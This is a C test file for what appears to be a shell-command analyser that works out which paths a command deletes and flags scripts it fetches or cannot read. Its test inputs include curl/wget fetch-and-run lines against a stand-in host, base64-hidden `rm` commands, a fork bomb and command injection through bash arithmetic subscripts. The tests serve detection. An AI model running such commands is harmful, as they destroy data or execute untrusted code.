/* SPDX-License-Identifier: MIT */
/* What a shell hands on: variables to what a command runs, values from one turn of a loop to the next,
 * folders from one command to another. */
#include "shell_rows.h"

static void variables_in_front(void)
{
	static const struct example rows[] = {
		ROW("a=/b sh -c 'rm $a'", "/b"),
		ROW("env a=/b bash -c 'rm \"$a\"'; sudo -u x a=/c sh -c 'rm $a'", "/b; /c"),
		ROW("a=/b nohup env c=d sh -c 'rm $a/$c'", "/b/d"),
		ROW("a=/b sh <<< 'rm $a'; echo 'rm $a' | a=/c sh", "/b; /c"),
		ROW("a=/b bash <<'E'\nrm $a\nE", "/b"),
		ROW("f() { rm $a; }; a=/b f; f", "/b"),
		ROW("a=/b find . -exec sh -c 'rm $a' \\;", "/b"),
		ROW("find . -exec env a=/b sh -c 'rm $a' \\;", "/b"),
		ROW("a=/b eval 'rm $a; c=/d'; rm $c", "/b; /d"),
		ROW("a=/b; a=/c sh -c :; rm $a", "/b"),
		ROW("a=/b; a=/c rm $a; a=/c sh <<< \"rm $a\"; a=/c sh -c \"rm $a\"", "/b; /b; /b"),
		ROW("a=/b; a=/c echo $(rm $a)", "/b"),
		ROW("for d in /b /c; do a=$d sh -c 'rm $a'; done", "/b; /c"),
		ROW("a=$x sh -c 'rm $a'; env a=$x sh -c 'rm $a'", ""),
		ROW("echo 'rm $a' > /tmp/x.sh; a=/b bash /tmp/x.sh", "/b"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void arguments(void)
{
	static const struct example rows[] = {
		ROW("bash -s /b <<< 'rm $1'; echo 'rm $2' | bash -s -- x /c", "/b; /c"),
		ROW("sh -s /b <<'E'\nrm \"$1\"\nE", "/b"),
		ROW("sudo bash -s /b <<< 'rm $1'; echo 'rm $1' | bash /dev/stdin /c", "/b; /c"),
		ROW("ssh h bash -s /b <<< 'rm $1'", "/b"),
		ROW("set -- /x; bash <<< 'rm /c$1'; sh -c 'rm \"$1\"' _ /b", "/c; /b"),
		ROW("bash -s \"$x\" <<< 'rm $1'", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void folders(void)
{
	static const struct example rows[] = {
		ROW("cd /a; cd /b; cd -; rm x", "/a/x"),
		ROW("cd /a; cd /b; rm $OLDPWD/x ~-/y", "/a/x,/a/y"),
		ROW("pushd /a; pushd /b; rm x; popd; rm x; popd; rm x", "/b/x; /a/x; /srv/app/x"),
		ROW("pushd /a; pushd; rm x; pushd; rm x", "/srv/app/x; /a/x"),
		ROW("popd; rm x; pushd /a; pushd +1; rm x", "/srv/app/x"),
		ROW("cd /a && rm x; cd -; rm x", "/a/x; /srv/app/x"),
		ROW("cd -; rm x", ""),
		ROW("if true; then cd /a; fi; rm x", "/a/x,/srv/app/x"),
		ROW("if true; then cd /a; else cd /b; fi; rm x", "/b/x,/a/x"),
		ROW("if true; then cd /a; else exit; fi; rm x", "/a/x"),
		ROW("if ! cd /a; then exit; fi; rm x", "/a/x"),
		ROW("case $1 in a) cd /a;; b) cd /b;; esac; rm x", "/b/x,/a/x,/srv/app/x"),
		ROW("case $1 in a) cd /a;; *) cd /b;; esac; rm x", "/b/x,/a/x"),
		ROW("[ -d a ] && cd a; rm x; cd ..; rm y",
			"/srv/app/a/x,/srv/app/x; /srv/app/y,/srv/y"),
		ROW("[ -d a ] && cd a && rm x", "/srv/app/a/x"),
		ROW("[ -d a ] && cd a || exit; rm x", "/srv/app/a/x"),
		ROW("mkdir -p a && cd a; rm x", "/srv/app/a/x"),
		ROW("cd a || exit 1; rm x", "/srv/app/a/x"),
		ROW("cd a || { echo no; exit 1; }; rm x", "/srv/app/a/x"),
		ROW("cd a || cd b; rm x", "/srv/app/b/x,/srv/app/a/x"),
		ROW("cd a || true; rm x", "/srv/app/x,/srv/app/a/x"),
		ROW("for d in a b; do cd $d; rm x; cd ..; done; rm y",
			"/srv/app/b/x,/srv/app/a/x; /srv/app/y"),
		ROW("cd a || rm x", "/srv/app/x"),
		ROW("(cd /a); rm x; { cd /b; }; rm x", "/srv/app/x; /b/x"),
		ROW("c() { cd /a; }; c; rm x; cd /none; rm /x", "/a/x; /x"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void fed_by_xargs(void)
{
	static const struct example rows[] = {
		ROW("printf '%s\\0' /a /b | xargs -0 rm; printf '/a\\0/b c\\0' | xargs -0 rm",
			"/a,/b; /a,/b c"),
		ROW("printf '%s\\n' /a /b | xargs -I{} sh -c 'rm {}; rm {}/c/{}'",
			"/a; /a/c/a; /b; /b/c/b"),
		ROW("echo /a /b | xargs -n1 sh -c 'rm \"$0\"'", "/a; /b"),
		ROW("echo /a /b /c | xargs -n 2 sh -c 'rm \"$1\"'", "/b"),
		ROW("echo /a /b | xargs sh -c 'rm \"$@\"' _", "/a,/b"),
		ROW("echo /a,/b | xargs -d, rm; echo /a:/b | xargs --delimiter=: rm",
			"/a,/b; /a,/b"),
		ROW("echo '/a b' | xargs -d '\\n' rm; echo '-r /a' | xargs -L1 rm", "/a b; /a"),
		ROW("echo /a > /l; xargs -a /l rm; xargs --arg-file=/l -n1 rm", "/a; /a"),
		ROW("echo /a | parallel -j2 rm; printf '/a\n/b' | parallel rm {}/c",
			"/a; /a/c,/b/c"),
		ROW("xargs -a <(echo /a) rm; xargs -a /none rm", "/a"),
		ROW("find /a -print0 | xargs -0 rm; find /a -type f | sort | xargs rm", "/a; /a/*"),
		ROW("ls -d /a/* | xargs rm; ls -d /a/* | grep -v x | xargs rm", "/a/*; /a/*"),
		ROW("find /a -name x | xargs rm; find . -type f | xargs rm; ls -d /a/* | grep x | "
		    "xargs rm",
			""),
		ROW("find /a -print0 | while read -r -d '' f; do rm \"$f\"; done", "/a"),
		ROW("for f in $(find /a /b -maxdepth 1); do rm $f; done", "/b; /a"),
		ROW("while read x; do rm $x; done < <(find /a -mindepth 1)", "/a/*"),
		ROW("echo '/a;/b' | tr ';' '\0' | xargs -0 rm; find /a | tail -n +2 | xargs rm",
			"/a,/b; /a"),
		ROW("readarray -d '' a < <(find /a /b -print0); rm \"${a[@]}\"", "/a,/b"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void turns_of_loops(void)
{
	static const struct example rows[] = {
		ROW("y=/a; for x in 1 2; do rm $y; y=/b; done", "/a; /b"),
		ROW("for x in 1 2; do d=/b; rm $y; y=$d; done", "/b"),
		ROW("y=/a; while true; do rm $y; y=$y/b; done", "/a; /a/b"),
		ROW("y=/a; until false; do for i in 1; do rm $y; y=/b; done; done", "/a; /b"),
		ROW("for x in /a /b; do rm $x; x=/c; done", "/b; /a"),
		ROW("for x in 1 2; do y=/a; rm $y; done", "/a"),
		ROW("for x in 1 2; do rm y; cd /a; done", "/srv/app/y; /a/y,/srv/app/y"),
		ROW("while read x; do rm $x; done <<< /a; echo /b | while read -r x; do rm $x; "
		    "done",
			"/a; /b"),
		ROW("while read a b; do rm $b; done < <(printf '1 /a\\n2 /b\\n')", "/b; /a"),
		ROW("printf '/a\\n/b\\n' > /l; while read x; do rm $x; done < /l", "/b; /a"),
		ROW("while read x; do rm $x; done <<E\n/a\n$y\nE", "/a"),
		/* more than are read one by one stand side by side, too, but not only */
		ROW("for h in 1 2 3 4 5 6 7 8 9; do ssh $h 'rm /a'; done",
			"/a; /a; /a; /a; /a; /a; /a; /a; /a"),
		ROW("for n in {1..20}; do nice -n $n rm /a; done",
			"/a; /a; /a; /a; /a; /a; /a; /a; /a; /a; /a; /a; /a; /a; /a; /a"),
		ROW("s=; for x in a b; do s=\"$s /$x\"; done; rm $s",
			"/b; /a,/b; /b,/a; /a; /b; /a"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void further_turns(void)
{
	static const struct example rows[] = {
		ROW("a=(/a /b /c); for ((i=0;i<3;i++)); do rm \"${a[i]}\"; done", "/a; /b; /c"),
		ROW("a=(/a /b /c); for ((i=0;i<${#a[@]};i++)); do rm \"${a[$i]}\"; done",
			"/a; /b; /c"),
		ROW("a=(/a /b /c); for i in \"${!a[@]}\"; do rm \"${a[i]}\"; done", "/c; /b; /a"),
		ROW("a=(/a /b /c); i=0; while ((i < 3)); do rm ${a[i]}; ((i++)); done",
			"/a; /b; /c"),
		ROW("a=(/a /b /c); i=0; while [ $i -lt 3 ]; do rm ${a[$i]}; i=$((i+1)); done",
			"/a; /b; /c"),
		ROW("a=(/a /b /c); i=0; until [[ $i -ge 3 ]]; do rm ${a[$i]}; let i++; done",
			"/a; /b; /c"),
		ROW("set -- /a /b /c; while [ $# -gt 0 ]; do rm $1; shift; done; rm $1",
			"/a; /b; /c; /a"),
		ROW("f() { while [ -n \"$1\" ]; do rm $1; shift; done; }; f /a /b /c",
			"/a; /b; /c"),
		ROW("set -- -d /a x /b; while (($#)); do case $1 in -d) rm $2; shift 2;; *) rm $1; "
		    "shift;; esac; done",
			"/a; /srv/app/x; /a; /b; /srv/app/x; /b"),
		ROW("set -- /a -d /b; while (($#)); do case $1 in *) shift;; -d) shift 2;; esac; "
		    "rm "
		    "$1; done",
			"/a; /b"),
		ROW("set -- /a /b; for ((i=1;i<=$#;i++)); do rm ${!i}; done", "/a; /b"),
		ROW("set -- -x /a -r/b; while getopts x:r: o; do rm $OPTARG; done", "/b; /a"),
		ROW("p=/a; for i in 1 2 3 4; do p=$p/b; done; rm $p",
			"/a/b/b/b/b; /a/b/b/b; /a/b/b; /a/b; /a"),
		ROW("p=/a; for i in 1 2; do p=$p/b; done; rm $p", "/a/b/b; /a/b; /a"),
		ROW("p=/a; while read x; do p=$p/b; done; rm $p", "/a/b/b; /a/b; /a"),
		ROW("i=0; while ((i < 0)); do rm /a; ((i++)); done", "/a"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void what_builtins_read(void)
{
	static const struct example rows[] = {
		ROW("mapfile -t a <<< /a; rm ${a[0]}; readarray -t b < <(echo /b); rm \"${b[@]}\"",
			"/a; /b"),
		ROW("echo '/a /b' > /f; mapfile < /f; rm $MAPFILE", "/a,/b"),
		ROW("read -a a <<< 'x /a'; rm ${a[1]}; IFS=, read a b <<< 'x,/b'; rm $b", "/a; /b"),
		ROW("IFS=: read -r a b c <<< 'x: /b :/c:d'; rm $b; rm $c; rm \"$b\"",
			"/b; /c:d; /srv/app/ /b "),
		ROW("IFS= read -r x <<< ' /a '; rm $x; read -r -d '' y <<< $'/a\n/b'; rm $y",
			"/a; /a,/b"),
		ROW("IFS=, read a <<< 'x,/b'; rm $a; IFS=,; rm $a", "/srv/app/x,/b; /srv/app/x,/b"),
		ROW("read -n 1 a <<< /a; rm $a; mapfile -n 1 b <<< /b; rm $b; read c; rm $c", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void written_then_run(void)
{
	static const struct example rows[] = {
		ROW("echo 'rm /a' | dd of=/x.sh; sh /x.sh; dd if=/x.sh of=y bs=1; sh y", "/a; /a"),
		ROW("echo 'rm /a' > x; install -m 755 x /y; /y; cp x /d/; sh /d/x", "/a; /a"),
		ROW("echo 'rm x/a' > f; sed -i 's/x\\/a/\\/a/' f; sh f", "/a"),
		ROW("echo 'rm /a' | cat > f; sh f; eval \"$(cat f)\"; eval \"$(<f)\"",
			"/a; /a; /a"),
		ROW("echo /a > f; rm $(cat f) $(cat f g)", "/a"),
		ROW("echo /a > f; rm $(cat f); xargs rm < f", "/a; /a"),
		ROW("echo 'rm /a' > f; cp -t g f; sh g", ""),
		ROW("cp /dev/stdin f <<< 'rm /a'; sh f; echo 'rm /b' | install /dev/stdin g; ./g",
			"/a; /b"),
		ROW("echo cm0gL2E= > f; base64 -d f | sh; base64 -d f > g; sh g", "/a; /a"),
		ROW("echo cm0gL2E= | base64 -d > g && ./g; sh <(base64 -d <<< cm0gL2E=)", "/a; /a"),
		ROW("yes 'rm /a' | head -1 | sh; printf '1\nrm /b\n3' | tail -n 2 | head -n1 | sh",
			"/a; /b"),
		ROW("printf 'a\nrm /b\n' | tail -c 3 | sh; echo 'rm /a' | head -c 2 | sh", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void opened_under_a_number(void)
{
	static const struct example rows[] = {
		ROW("exec 3<<<'rm /a'; sh <&3; sh /dev/fd/3", "/a; /a"),
		ROW("exec {fd}<<<'rm /a'; sh <&$fd; . /proc/self/fd/$fd", "/a; /a"),
		ROW("exec 3<<E\nrm /a\nE\nread -u 3 x; eval \"$x\"; read y <&3; eval \"$y\"",
			"/a; /a"),
		ROW("exec 3< <(echo 'rm /a'); sh <&3; sh 4<<<'rm /b' /dev/fd/4", "/a; /b"),
		ROW("echo 'rm /a' > f; exec 3<f; while read -u3 l; do eval \"$l\"; done", "/a"),
		ROW("exec <<<'rm /a'; sh; { sh <&5; } 5<<<'rm /b'", "/a; /b"),
		ROW("sh =(echo 'rm /a'); . <(echo 'rm /b')", "/a; /b"),
		ROW("exec 3<<<'rm /a'; cat <&3; sh x.sh 3<&-; sh <&-", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void traps_and_aliases(void)
{
	static const struct example rows[] = {
		ROW("trap 'rm $x' EXIT; x=/a; x=/b", "/b"),
		ROW("x=/a; trap 'rm $x' EXIT; x=/b", "/a; /b"),
		ROW("trap f EXIT; f() { rm $x; }; x=/a", "/a"),
		ROW("(trap 'rm $x' 0; x=/a); sh -c 'trap \"rm \\$x\" 0; x=/b'", "/a; /b"),
		ROW("trap 'rm /a' EXIT; trap - EXIT; trap '' INT", "/a"),
		ROW("f() { trap f 0; trap f 1; trap f 2; trap f 3; rm /a; }; f", "/a"),
		ROW("alias x='nohup ' y='rm /a'; x y; x z", "/a; /a"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void what_code_prints(void)
{
	static const struct example rows[] = {
		ROW("python3 -c 'print(\"rm /a\")' | sh; python3 -c \"print('rm /b')\" > x; sh x",
			"/a; /b"),
		ROW("eval \"$(perl -e 'print \"rm /a\"')\"; $(ruby -e 'puts \"rm /b\"')", "/a; /b"),
		ROW("node -e 'console.log(\"rm /a\")' | bash; php -r 'echo \"rm /b\";' | sh",
			"/a; /b"),
		ROW("awk 'BEGIN{print \"rm /a\"}' | sh; python3 - <<E | sh\nprint('rm /b')\nE",
			"/a; /b"),
		ROW("awk '{print $2}' <<< 'x /a' | xargs rm; echo /b | awk '{print \"rm \" $0}' | "
		    "sh",
			"/a; /b"),
		ROW("python3 -c 'print(x)' | sh; python3 x.py | sh; perl -e 'print \"rm /a\", $x' "
		    "| sh",
			""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void what_code_is_given(void)
{
	static const struct example rows[] = {
		ROW("awk -v x='rm /a' 'BEGIN{system(x)}'; awk -vx='rm /b' 'BEGIN{print x | "
		    "\"sh\"}'",
			"/a; /b"),
		ROW("awk '{system(x)}' x='rm /a' f", "/a"),
		ROW("awk '{system($0)}' <<< 'rm /a'; echo '/b /c' | awk '{system(\"rm \" $2)}'",
			"/a; /c"),
		ROW("printf '%s\\n' /a /b | awk '{system(\"rm \" $1)}'", "/a; /b"),
		ROW("sed e <<< 'rm /a'; echo 'rm /b' | sed e", "/a; /b"),
		ROW("python3 -c 'import os, shutil; os.chdir(\"/a\"); shutil.rmtree(\"b\")'",
			"/a/b"),
		ROW("python3 -c 'import os; os.chdir(\"/a\"); os.chdir(\"b\"); os.system(\"rm "
		    "c\")'",
			"/a/b/c"),
		ROW("node -e 'process.chdir(\"/a\"); fs.rmSync(\"b\")'", "/a/b"),
		ROW("python3 -c 'import os; os.chdir(d); os.remove(\"b\"); os.remove(\"/c\")'",
			"/c"),
		ROW("awk '{system($0)}' f; sed e f", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void what_zsh_adds(void)
{
	static const struct example rows[] = {
		ROW("zsh -c 'a=(/a /b); rm $a[2]; rm $a[-2]'; a=(/c /d); rm $a[1]", "/b; /a; /c"),
		ROW("zsh -c 'a=(/a /b); rm $a; rm ${a[1]}'; a=(/c /d); rm $a ${a[1]}",
			"/a,/b; /a; /c,/d"),
		ROW("zsh -c 's=\"rm /a\"; ${=s}; $=s; ${(z)s}'", "/a; /a; /a"),
		ROW("zsh -c 's=rm:/a; ${(s.:.)s}; s=rm,/b; ${(s:,:)s}'", "/a; /b"),
		ROW("zsh -c 'x=/A; rm ${(L)x}; y=x; rm ${(P)y}; rm ${:-/b} ${(%):-/c}'",
			"/a; /A; /b,/c"),
		ROW("zsh -c 'a=(x y); rm /${(j:/:)a}; x=$'\\''/a\\n/b'\\''; rm ${(f)x}'",
			"/x/y; /a,/b"),
		ROW("zsh -c 'x=\"\\$(rm /a)\"; echo ${(e)x}'", "/a"),
		ROW("zsh -c '() { rm $1 } /a; function { rm $1; } /b'", "/a; /b"),
		ROW("zsh -c 'hash x=/bin/rm; x /a; alias -g X=\"/b\"; rm X'", "/a; /b"),
		ROW("alias -g G='| sh'; echo 'rm /a' G; echo 'rm /b' 'G'", "/a"),
		ROW("zsh -c 'zf_rm /a; print -r \"rm /b\" | sh'; zsh <<< 'a=(/c); rm $a[1]'",
			"/a; /b; /c"),
		ROW("f() { repeat 2 rm $1; }; f /a; echo \"a$=b\"; grep 'x$=' f", "/a"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void sql_that_is_handed_over(void)
{
	static const struct example rows[] = {
		ROW("psql -f <(echo 'drop table a'); psql -c 'select 1' -f /dev/stdin",
			"drop table a; select ?"),
		ROW("psql -v x='drop table a' -c ':x'; psql -v t=a -c 'drop table :t'",
			"drop table a,:x; drop table :t"),
	};
	CHECK_ALL(rows, FACT_SQL);
}

static void many_calls_of_functions(void)
{
	struct buf text;
	buf_init(&text, &arena, 1 * MIB);
	buf_add(&text, STR("f() { x=$1; }; g() { rm $1; };"));
	for (size_t i = 0; i < LIMIT_FUNCTION_CALLS - 1; i++)
		buf_add(&text, STR(" f;"));
	buf_add(&text, STR(" g /a;"));
	CHECK_STR(values(buf_str(&text), FACT_DELETES), STR("/a"));
	CHECK_STR(values(buf_str(&text), FACT_DOUBT), STR(""));
	buf_add(&text, STR(" g /b; g /c"));
	CHECK_STR(values(buf_str(&text), FACT_DOUBT), STR("too-deep; dynamic-path"));
}

static void what_functions_print(void)
{
	static const struct example rows[] = {
		ROW("f() { echo /a; }; rm $(f); g() { printf '%s' \"$1\"; }; rm \"$(g /b)\"",
			"/a; /b"),
		ROW("f() { local d=$1; echo \"$d/x\"; }; rm $(f /a); rm \"$d\"", "/a/x"),
		ROW("f() { echo 'rm /a'; }; f | sh; eval \"$(f)\"; f > x; sh x", "/a; /a; /a"),
		ROW("f() { cat; }; echo 'rm /a' | f | sh; g() { f; }; rm $(echo /b | g)", "/a; /b"),
		ROW("f() { git rev-parse HEAD; }; rm $(f); f() { f; }; rm $(f)", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

/* Functions that call each other many times end by a limit, not by the clock. */
static void printing_functions_are_bounded(void)
{
	struct buf text;
	buf_init(&text, &arena, 1 * MIB);
	for (size_t level = 0; level < 8; level++) {
		buf_printf(&text, "f%zu() { ", level);
		for (size_t i = 0; i < 50; i++)
			buf_printf(&text, "f%zu; ", level + 1);
		buf_add(&text, STR("}; "));
	}
	buf_add(&text, STR("f8() { echo x; }; rm $(f3) $(f4) $(f5) /a"));
	CHECK_STR(values(buf_str(&text), FACT_DELETES), STR("/a"));
	buf_init(&text, &arena, 1 * MIB);
	buf_add(&text, STR("x='"));
	for (size_t i = 0; i < 50; i++)
		buf_add(&text, STR("$(sh -c \"$x\")"));
	buf_add(&text, STR("'; rm $(sh -c \"echo $x\") /a"));
	CHECK_STR(values(buf_str(&text), FACT_DELETES), STR("/a"));
}

static void what_filters_write(void)
{
	static const struct example rows[] = {
		ROW("rm $(echo x:/a | cut -d: -f2) $(cut -d , -f 1 <<< /b,x)", "/a,/b"),
		ROW("printf '%s\\n' /b /a /b | sort -u | xargs rm; rm $(printf '/a\\n/a' | uniq)",
			"/a,/b; /a"),
		ROW("printf '/a\\nx\\n' | grep / | xargs rm; printf '/a\\n/b\\n' | grep -v a | "
		    "xargs rm",
			"/a; /b"),
		ROW("echo a | sed 's|^|/|' | xargs rm; rm $(echo /a | sed 's/$/b/')", "/a; /ab"),
		ROW("a=(/a /b); for i in $(seq 0 1); do rm ${a[i]}; done", "/b; /a"),
		ROW("rm $(realpath /a) $(readlink -f /b) $(cd /c && pwd)", "/a,/b,/c"),
		ROW("rm $(command echo /a) $(busybox echo /b) $(sh -c 'echo \"$1\"' _ /c)",
			"/a,/b,/c"),
		ROW("rm $(echo /a | grep 'a*') $(echo a,b | cut -d, -f1-2) $(sort -n <<< /a) $(seq "
		    "99)",
			""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void programs_the_call_writes(void)
{
	static const struct example rows[] = {
		ROW("echo 'rm /a' > ~/bin/x; chmod +x ~/bin/x; x", "/a"),
		ROW("echo 'rm /a' | sudo tee /usr/local/bin/x; x", "/a"),
		ROW("echo 'rm /a' > x; PATH=.:$PATH; x; echo 'rm /b' > y; ls; z", "/a"),
		ROW("echo 'rm /a' > x; x", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

/* A long text in front hides nothing. */
static void long_texts(void)
{
	static const char *const forms[][2] = {
		{"cat > x <<'E'\n", "\nE\nsh x"},
		{"printf '%s' '", "' > x; sh x"},
		{"echo '", "' | sh"},
		{"x='", "'; eval \"$x\""},
		{"cat > x <<'E'\n", "\nE\ncp x y; sh y"},
	};
	for (size_t i = 0; i < ARRAY_LEN(forms); i++) {
		struct buf text;
		buf_init(&text, &arena, 1 * MIB);
		buf_add(&text, str_of(forms[i][0]));
		while (text.len < 80 * KIB)
			buf_add(&text, STR("# a comment that fills the script up to here\n"));
		buf_add(&text, STR("rm /a"));
		buf_add(&text, str_of(forms[i][1]));
		CHECK_STR(values(buf_str(&text), FACT_DELETES), STR("/a"));
	}
}

static void links_of_the_call(void)
{
	static const struct example rows[] = {
		ROW("ln -s /a l; rm l; rm l/; rm l/b",
			"/srv/app/l; /srv/app/l,/a; /srv/app/l/b,/a/b"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void downloads(void)
{
	static const struct example rows[] = {
		ROW("curl -o i https://x.example/i; mv i j; sh j", "fetched-script"),
		ROW("x=$(curl -s https://x.example/i); echo \"$x\" > i; sh i", "fetched-script"),
		ROW("printf %s \"$(curl https://x.example/i)\" > i && sh i", "fetched-script"),
		ROW("gh gist view 12 -r > i; sh i", "fetched-script"),
		ROW("curl https://x.example/i > i; sh < i; cat i | sh; head -1 i | sh",
			"fetched-script; fetched-script; fetched-script"),
		ROW("curl -o i https://x.example/i; base64 -d i > j; bash j", "fetched-script"),
		ROW("curl -o i.gz https://x.example/i; gunzip i.gz; sh i; zcat i.gz | sh",
			"fetched-script; fetched-script"),
		ROW("wget -O i https://x.example/i; install -m 755 i j; ./j; dd if=j of=k; sh k",
			"fetched-script; fetched-script"),
		ROW("curl -o i https://x.example/i; eval \"$(cat i)\"; bash -c \"$(<i)\"",
			"fetched-script; dynamic-program; fetched-script; dynamic-program"),
		ROW("curl -o i https://x.example/i; python3 < i; exec 3<i; sh <&3",
			"fetched-script; fetched-script"),
		ROW("curl -o i https://x.example/i; cat i; jq . i > j; cat j | sort; gcc i -o k; "
		    "./k",
			""),
		ROW("curl -o i http://localhost:3/i; sh < i", "unread-script"),
		ROW("curl -o i https://x.example/i; (cat i; echo) | sh", "fetched-script"),
	};
	CHECK_ALL(rows, FACT_DOUBT);
}

static void programs_under_other_names(void)
{
	static const struct example rows[] = {
		ROW("cp /bin/rm /x; /x /a; sudo /x /b; /y /c", "/a; /b"),
		ROW("ln -s $(which rm) x; ./x /a; cd /; ./x /b", "/a"),
		ROW("ln -s /usr/bin/rm; ./rm /a; cp /bin/rm .; ./rm /b", "/a; /b"),
		ROW("cat /bin/rm > x; ./x /a; install /bin/rm /d/; /d/rm /b", "/a; /b"),
		ROW("cp /bin/rm /x; rm /x; cp /bin/ls /y; /y /a", "/x"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void evaluated_again(void)
{
	static const struct example rows[] = {
		ROW("a='x[$(rm /a)]'; ((a)); echo $((a + 1)); [[ a -eq 1 ]]; let a", "/a"),
		ROW("a='x[`rm /a`]'; echo $((a)); b='x[$(rm /b)]'; echo ${c[b]} ${d:b:1}",
			"/a; /b"),
		ROW("[[ -v 'x[$(rm /a)]' ]]; test -v 'x[$(rm /b)]'; printf -v 'x[$(rm /c)]' %s 1",
			"/a; /b; /c"),
		ROW("read 'x[$(rm /a)]' <<< 1; unset 'x[$(rm /b)]'; let 'x[$(rm /c)]'",
			"/a; /b; /c"),
		ROW("x='$(rm /a)'; echo \"${x@P}\"; PS4='+$(rm /b) '; export PS1='`rm /c`'",
			"/a; /b; /c"),
		ROW("a='x[$((a))$(rm /a)]'; ((a))", "/a"),
		ROW("a='x[$(rm /a)]'; echo \"$a\" 'x[$(rm /b)]'; [[ $a == x ]]; b='$(rm /c)'; "
		    "((b))",
			""),
		ROW("printf 'x[$(rm /a)]'; test -n 'x[$(rm /b)]'; export A='x[$(rm /c)]'", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void places_of_what_is_evaluated_again(void)
{
	struct str text = STR("b=xxxxxxxx; a=\"y[$b$b$b\\$(rm /a)]\"; ((a))");
	CHECK_STR(values(text, FACT_DELETES), STR("/a"));
	CHECK_LONG(actions.last->place.at, str_find(text, STR("(("), 0));
	CHECK_LONG(actions.last->place.len, STR("((a))").len);
}

static void declared(void)
{
	static const struct example rows[] = {
		ROW("declare -n r=d; r=/a; rm $d; rm $r; declare -n r=e; r=/b; rm $d $e",
			"/a; /a; /a,/b"),
		ROW("f() { local -n r=$1; r=/a; }; f d; rm $d; r=/b; rm $r $d", "/a; /b,/a"),
		ROW("typeset -n r=d; read r <<< /a; rm $d; printf -v r /b; rm $d", "/a; /b"),
		ROW("declare -n r=r; r=/a; declare -n a=b b=a; a=/b; rm /c", "/c"),
		ROW("declare -A m=(k /a l /b); rm ${m[l]}; declare -A n=([k]=/c); rm ${n[k]}",
			"/b; /c"),
		ROW("declare -a m=(k /a); rm ${m[1]}; typeset d=/b; rm $d", "/a; /b"),
		ROW("declare -i n='x[$(rm /a)]'", "/a"),
		ROW("declare \"x=/a\"; rm \"$x\"; y=/b; export 'z='\"$y\"; rm $z", "/a; /b"),
		ROW("f() { local \"d=$1\"; rm \"$d\"; }; f /a; export \"A=$FOO\"; rm \"$A\"", "/a"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void functions_in_themselves(void)
{
	static const struct example rows[] = {
		ROW("f() { if [ $# -gt 1 ]; then shift; f \"$@\"; else rm $1; fi; }; f x y /a",
			"/a; /srv/app/y; /srv/app/x"),
		ROW("f() { rm $1; f $1/b; }; f /a", "/a; /a/b; /a/b/b; /a/b/b/b"),
		ROW("f() { rm /a; f; }; f; g() { rm /b; f $1; g $x; }; g 1",
			"/a; /b; /a; /a; /b; /a; /a"),
		ROW(":() { : | :& }; :; rm /a", "/a"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void recursion_is_no_doubt(void)
{
	static const struct example rows[] = {
		ROW("f() { [ $1 -le 1 ] || echo $(($1 * $(f $(($1 - 1))))); }; f 5", ""),
		ROW("f() { for x in \"$1\"/*; do f \"$x\"; done; }; f a; f $(pwd)", ""),
		ROW("f() { echo $(g $1); }; g() { echo $(f $1/a); }; f /", ""),
		ROW("a() { ls; }; b() { a; }; c() { b; }; d() { c; }; e() { d; }; f() { e; }; g() "
		    "{ f; }; h() { g; }; h",
			"too-deep"), /* one behind the other, and not in itself */
		ROW("echo 'eval eval eval eval eval eval eval eval ls' > x; sh x", "too-deep"),
	};
	CHECK_ALL(rows, FACT_DOUBT);
}

static void pipes_into_shells(void)
{
	static const struct example deletes[] = {
		ROW("echo 'rm /a' | tee >(sh) > /dev/null; echo 'rm /b' > >(sh)", "/a; /b"),
		ROW("tee >(bash) f <<< 'rm /a'", "/a"),
	};
	static const struct example doubts[] = {
		ROW("coproc sh; coproc X { bash; }; ls | tee >(sh)",
			"unread-script; unread-script; unread-script"),
		ROW("coproc cat; coproc sh x.sh; coproc python3 x.py; ls | tee >(cat)", ""),
	};
	CHECK_ALL(deletes, FACT_DELETES);
	CHECK_ALL(doubts, FACT_DOUBT);
}

/* Loops in loops, each of which has a second turn: the work stays linear in the text. */
static void turns_are_bounded(void)
{
	struct buf text;
	buf_init(&text, &arena, 1 * MIB);
	buf_add(&text, STR("y=/b; "));
	for (size_t i = 0; i < 40; i++)
		buf_printf(&text, "for x%zu in 1 2; do ", i);
	buf_add(&text, STR("rm $y; y=/a$y; "));
	for (size_t i = 0; i < 40; i++)
		buf_add(&text, STR("done; "));
	CHECK(str_starts_with(values(buf_str(&text), FACT_DELETES), STR("/b; /a/b")));
	CHECK(actions.count < 20);
	text.len = 0;
	buf_add(&text, STR("for x in 1 2; do y=/a$y; "));
	for (size_t i = 0; i < LIMIT_ACTIONS - 100; i++)
		buf_add(&text, STR("rm $y;"));
	buf_add(&text, STR(" done; rm /z"));
	CHECK(str_ends_with(values(buf_str(&text), FACT_DELETES), STR("/z")));
	CHECK_LONG(actions.count, LIMIT_ACTIONS - 99);
}

int main(void)
{
	arena_init(&arena, LIMIT_ARENA_BYTES);
	TEST(variables_in_front);
	TEST(arguments);
	TEST(folders);
	TEST(fed_by_xargs);
	TEST(turns_of_loops);
	TEST(further_turns);
	TEST(what_builtins_read);
	TEST(written_then_run);
	TEST(opened_under_a_number);
	TEST(traps_and_aliases);
	TEST(what_code_prints);
	TEST(what_code_is_given);
	TEST(what_zsh_adds);
	TEST(sql_that_is_handed_over);
	TEST(many_calls_of_functions);
	TEST(what_functions_print);
	TEST(printing_functions_are_bounded);
	TEST(what_filters_write);
	TEST(programs_the_call_writes);
	TEST(long_texts);
